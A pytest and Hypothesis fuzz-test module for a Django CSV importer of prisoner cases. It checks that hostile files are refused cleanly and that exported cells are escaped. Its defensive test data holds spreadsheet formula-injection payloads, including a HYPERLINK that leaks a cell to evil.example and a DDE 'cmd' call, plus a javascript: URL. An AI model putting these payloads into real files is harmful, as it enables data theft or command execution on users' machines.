"""Hostile CSV files for the case import: imported whole, or refused row by row with nothing written.

Hypothesis builds files from the import's own columns with valid, edge and garbage values, formula
cells, huge cells, NUL bytes, bad encodings and BOMs, many columns and broken quoting, and also
throws plain random bytes at it. IMPORT_FUZZ_EXAMPLES runs it longer.
"""

import codecs
import csv
import io
import os

import pytest
from django.apps import apps
from django.db import transaction
from django.test import Client
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context

from prisoners.imports import COLUMNS, REQUIRED_COLUMNS, CasesFileRejected, cases_file_import
from prisoners.models import Gender, Person, Region, ReleaseType, Status
from prisoners.roles import SYSTEM
from tests.prisoners.factories import LegalArticleFactory

pytestmark = pytest.mark.django_db

EXAMPLES = int(os.environ.get("IMPORT_FUZZ_EXAMPLES", "80"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    # Each example runs in a savepoint rolled back after it, so the articles fixture stays as it was.
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def articles(db):
    for article, part in [("342", ""), ("130", ""), ("293", "1")]:
        LegalArticleFactory(article=article, part=part, title=f"Offence {article}")


def database_state():
    """Row counts of every table of both apps, history included (as in test_imports.py)."""
    models = [
        model
        for label in ("prisoners", "sources")
        for model in apps.get_app_config(label).get_models(include_auto_created=True)
    ]
    return {model._meta.label: model._base_manager.count() for model in models}


# --- Cells ---------------------------------------------------------------------------------------

CHARACTERS = st.characters(exclude_categories=("Cs",))
TEXT = st.text(CHARACTERS, max_size=30)
FORMULAS = st.sampled_from(
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "=1\n=2",
    ]
)


def repeated(pieces, sizes):
    return st.builds(lambda piece, times: piece * times, pieces, sizes)


# Around every limit: the columns' max lengths (200, 300), the csv module's field limit (131072).
LONG = repeated(
    st.sampled_from(["a", "Щ", "ё", "🙂", "a;", " "]), st.sampled_from([150, 199, 200, 201, 300, 301, 1000])
)
HUGE = repeated(st.sampled_from(["x", "Ж"]), st.sampled_from([131_072, 131_073]))
DATES = st.one_of(
    st.dates().map(lambda day: day.isoformat()),
    st.sampled_from(
        [
            "2020",
            "2020-05",
            "2021?",
            "2020~",
            "2020-21",
            "2020-05/2021-01",
            "2020-05-29/..",
            "../2020",
            "0000",
            "9999-12-31",
            "10000-01-01",
            "Y170000002",
            "2020-02-30",
            "2020-13",
            "1985-04-12T23:20:30",
            "XXXX",
            "٢٠٢٠-٠٥-٠١",
            "-2020",
        ]
    ),
)
TERMS = st.one_of(
    st.builds(
        lambda years, months, days, form: form.format(y=years, m=months, d=days),
        st.integers(0, 10**20),
        st.integers(0, 10**6),
        st.integers(0, 10**9),
        st.sampled_from(["{y}y", "{y}y{m}m", "{m}m{d}d", "{d}d", "{y}Y{m}M{d}D", " {y}y "]),
    ),
    st.sampled_from(["0y", "", "y", "18", "١٠y", "1y-6m", "life"]),
)
SHORT_NAMES = st.sampled_from(["Ales Bialiatski", "Алесь Бяляцкі", "Maria Kalesnikava", "O'Brien-Łukasz", "Ёжык"])
NAMES = st.one_of(SHORT_NAMES, LONG)
VALUES = {
    "external_id": st.one_of(st.sampled_from(["v-1", "v-2", "v-1 ", "V-1"]), LONG),
    "name": NAMES,
    "name_variants": st.lists(NAMES, max_size=4).map(";".join),
    "birth_date": DATES,
    "gender": st.sampled_from([*Gender.values, "MALE", "f"]),
    "region": st.sampled_from([*Region.values, "Minsk", "minsk-city"]),
    "status": st.sampled_from([*Status.values, "free"]),
    "detained_on": DATES,
    "released_on": DATES,
    "release_type": st.sampled_from([*ReleaseType.values, "amnesty"]),
    "articles": st.lists(
        st.sampled_from(["342", "130", "293.1", "293", "999", "361-1", "x", "342.", ""]), max_size=4
    ).map(";".join),
    "sentence": TERMS,
    "public": st.sampled_from(["yes", "no", "YES", " no ", "true", "1"]),
    "private_notes": st.one_of(TEXT, LONG),
    "source_url": st.sampled_from(
        [
            "https://news.example.org/story",
            "http://news.example.org/" + "a" * 2100,
            "javascript:alert(1)",
            "ftp://files.example.org/x",
            "https://",
            "https://пример.рф/новости",
        ]
    ),
    "source_title": st.one_of(TEXT, LONG),
    "quote": st.one_of(TEXT, LONG),
}


# Values the checker accepts, edges included: files made of these mostly import, and go on to be written.
GOOD_DATES = st.one_of(
    st.dates().map(lambda day: day.isoformat()),
    st.sampled_from(["2020", "2020-05", "2021?", "2020~", "2020-21", "2020-05/2021-01", "2020-05-29/..", "../2020"]),
)
AT_THE_LIMIT = repeated(st.sampled_from(["a", "Щ", "ё", "🙂"]), st.sampled_from([199, 200]))
GOOD_NAMES = st.one_of(SHORT_NAMES, AT_THE_LIMIT, FORMULAS)
GOOD = {
    **VALUES,
    "external_id": st.sampled_from(["v-1", "v-2", "v-3", "v-4"]),
    "name": GOOD_NAMES,
    "name_variants": st.lists(GOOD_NAMES, max_size=3).map(";".join),
    "birth_date": GOOD_DATES,
    "detained_on": GOOD_DATES,
    "released_on": GOOD_DATES,
    "sentence": st.one_of(TERMS, st.sampled_from(["18y", "1y6m", "90d", "3y"])),
    "gender": st.sampled_from(Gender.values),
    "region": st.sampled_from(Region.values),
    "status": st.sampled_from(Status.values),
    "release_type": st.sampled_from(ReleaseType.values),
    "articles": st.lists(st.sampled_from(["342", "130", "293.1"]), max_size=3).map(";".join),
    "public": st.sampled_from(["yes", "no"]),
    "private_notes": st.one_of(TEXT, FORMULAS),
    "source_url": st.just("https://news.example.org/story"),
    "source_title": st.one_of(TEXT, FORMULAS),
    "quote": TEXT,
}


def cell_for(column: str, *, clean: bool):
    if clean:
        return st.one_of(GOOD.get(column, TEXT), st.just(""))
    own = VALUES.get(column, TEXT)
    return st.one_of(own, own, own, st.just(""), FORMULAS, TEXT, LONG)


# --- Files ---------------------------------------------------------------------------------------


def coherent(draw, columns: list[str], row: list[str]) -> list[str]:
    """The row with what the checker asks of cells together: names given, releases typed, quotes sourced."""
    cells = dict(zip(columns, row, strict=True))
    for column in REQUIRED_COLUMNS:
        cells[column] = cells[column] or draw(GOOD[column])
    for column, partner in (("released_on", "release_type"), ("release_type", "released_on")):
        if cells.get(column) and not cells.get(partner):
            if partner in cells:
                cells[partner] = draw(GOOD[partner])
            else:
                cells[column] = ""
    if cells.get("quote") and not (cells.get("source_url") or cells.get("source_title")):
        cells["quote"] = ""
    return [cells[column] for column in columns]


@st.composite
def csv_files(draw) -> bytes:
    """A file shaped like an import, then possibly damaged the ways real files are."""
    clean = draw(st.booleans())
    unique_columns = st.lists(st.sampled_from(COLUMNS[2:]), max_size=6, unique=True)
    columns = draw(
        st.one_of(
            st.permutations(COLUMNS),
            unique_columns.map(lambda some: [*REQUIRED_COLUMNS, *some]),
        )
        if clean
        else st.one_of(
            st.permutations(COLUMNS),
            st.lists(st.sampled_from(COLUMNS), min_size=1, max_size=len(COLUMNS)),  # repeats, gaps
            st.lists(st.sampled_from(COLUMNS), min_size=1, max_size=6).map(lambda some: [*REQUIRED_COLUMNS, *some]),
        )
    )
    shapes = ["plain", "upper case"] if clean else ["plain", "unknown column", "unnamed column", "many columns"]
    shape = draw(st.sampled_from(shapes))
    if shape == "unknown column":
        columns = [*columns, draw(st.one_of(TEXT, FORMULAS))]
    elif shape == "unnamed column":
        columns = [*columns, ""]
    elif shape == "many columns":
        columns = [*columns, *(f"extra_{number}" for number in range(draw(st.sampled_from([50, 3000]))))]
    elif shape == "upper case":
        columns = [f" {column.upper()} " for column in columns]
    rows = []
    for _ in range(draw(st.integers(0, 4))):
        row = [draw(cell_for(column.strip().lower(), clean=clean)) for column in columns]
        if clean:
            rows.append(coherent(draw, [column.strip().lower() for column in columns], row))
            continue
        if draw(st.integers(0, 9)) == 0:
            row = row[:-1] if draw(st.booleans()) else [*row, draw(TEXT)]  # a wrong cell count
        if draw(st.integers(0, 14)) == 0:
            row[draw(st.integers(0, len(row) - 1))] = draw(HUGE) if row else ""
        rows.append(row)
    text = io.StringIO()
    lineterminator = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    delimiter = "," if clean else draw(st.sampled_from([",", ",", ",", ";", "\t"]))
    csv.writer(text, lineterminator=lineterminator, delimiter=delimiter).writerows([columns, *rows])
    content = text.getvalue()
    if clean:
        return content.encode(draw(st.sampled_from(["utf-8", "utf-8-sig"])))

    damage = draw(
        st.sampled_from(["none", "none", "none", "unclosed quote", "stray quote", "blank lines", "truncated"])
    )
    if damage == "unclosed quote":
        content = content + '"v-9,never closed'
    elif damage == "stray quote":
        at = draw(st.integers(0, len(content)))
        content = content[:at] + '"' + content[at:]
    elif damage == "blank lines":
        content = lineterminator * 3 + content.replace(lineterminator, lineterminator * 2)
    elif damage == "truncated":
        content = content[: draw(st.integers(0, len(content)))]

    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1251", "latin-1"]))
    data = content.encode(encoding, errors="replace")
    bytes_damage = draw(st.sampled_from(["none", "none", "NUL", "invalid UTF-8", "BOM twice", "BOM alone"]))
    if bytes_damage == "NUL":
        at = draw(st.integers(0, len(data)))
        data = data[:at] + b"\x00" + data[at:]
    elif bytes_damage == "invalid UTF-8":
        at = draw(st.integers(0, len(data)))
        data = (
            data[:at] + draw(st.sampled_from([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xe2\x82", b"\x80\x80"])) + data[at:]
        )
    elif bytes_damage == "BOM twice":
        data = codecs.BOM_UTF8 * 2 + data
    elif bytes_damage == "BOM alone":
        data = codecs.BOM_UTF8
    return data


def outcome(name: str) -> None:
    """How often each side is reached, for --hypothesis-show-statistics."""
    if currently_in_test_context():
        event(name)


def imports_whole_or_refuses_with_row_errors(data: bytes) -> None:
    """The property: an import either happens, or raises CasesFileRejected naming lines and writes nothing."""
    before = database_state()
    people_before = Person.objects.count()
    try:
        plan = cases_file_import(acting_user=SYSTEM, data=data)
    except CasesFileRejected as rejected:
        errors = rejected.plan.errors
        outcome("refused")
        assert errors, "refused without a reason"
        assert all(error.line >= 1 and error.reason for error in errors)
        assert database_state() == before, "a refused file wrote something"
        return
    outcome("imported")
    assert plan.applied
    assert Person.objects.count() == people_before + plan.to_create
    # Whatever a file put in, the public download escapes it: no cell starts a formula.
    download = Client().get("/prisoners/export.csv")
    assert download.status_code == 200
    for row in csv.reader(io.StringIO(b"".join(download.streaming_content).decode(), newline="")):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row


def in_a_rolled_back_savepoint(check, data: bytes) -> None:
    with transaction.atomic():
        check(data)
        transaction.set_rollback(True)


@given(data=csv_files())
@FUZZ
def test_a_hostile_csv_file_is_imported_whole_or_refused_with_row_errors(articles, data):
    in_a_rolled_back_savepoint(imports_whole_or_refuses_with_row_errors, data)


@given(
    data=st.one_of(
        st.binary(max_size=2000),
        st.binary(max_size=200).map(lambda tail: b"external_id,name\n" + tail),
        st.binary(max_size=200).map(lambda tail: codecs.BOM_UTF8 + b"external_id,name\r\nv-1," + tail),
    )
)
@FUZZ
def test_random_bytes_are_imported_whole_or_refused_with_row_errors(articles, data):
    in_a_rolled_back_savepoint(imports_whole_or_refuses_with_row_errors, data)


# Always tried, besides what hypothesis finds.
KNOWN_HOSTILE_FILES = [
    pytest.param(b"external_id,name,birth_date\nv-1,Ales,-2020\n", id="a year before 1 (EDTF -2020)"),
    pytest.param(b"external_id,name,birth_date\nv-1,Ales,Y170000002\n", id="a year after 9999 (EDTF Y170000002)"),
    pytest.param(b"external_id,name,detained_on,sentence\nv-1,Ales,9999-12-31,1y\n", id="a term ending after 9999"),
    pytest.param(b"external_id,name,detained_on,sentence\nv-1,Ales,2020-01-01,9999y\n", id="a term of 9999 years"),
    pytest.param(
        b"external_id,name,detained_on,sentence\nv-1,Ales,2020-01-01,99999999999999999999y\n",
        id="a term too long for an integer column",
    ),
    pytest.param(
        ("external_id,name\nv-1," + "Щ" * 200 + "\n").encode(),
        id="a name of 200 letters whose key is longer (PostgreSQL: varchar(300))",
    ),
    pytest.param(
        b'external_id,name,private_notes\nv-1,"=HYPERLINK(""https://evil.example/"",""x"")",@SUM(A1)\n',
        id="formula cells",
    ),
    pytest.param("external_id,name\nv-1,Алесь\n".encode("utf-16"), id="UTF-16"),
    pytest.param(b"external_id,name\nv-1,Ales\x00\n", id="a NUL byte"),
    pytest.param(b"external_id,name\nv-1," + b"x" * 131_073 + b"\n", id="a cell over the csv field limit"),
    pytest.param(codecs.BOM_UTF8 * 2 + b"external_id,name\nv-1,Ales\n", id="two BOMs"),
    pytest.param(b"external_id,name\nv-1,Ale\xffs\n", id="not UTF-8"),
]


@pytest.mark.parametrize("data", KNOWN_HOSTILE_FILES)
def test_a_known_hostile_csv_file_is_imported_whole_or_refused_with_row_errors(articles, data):
    imports_whole_or_refuses_with_row_errors(data)
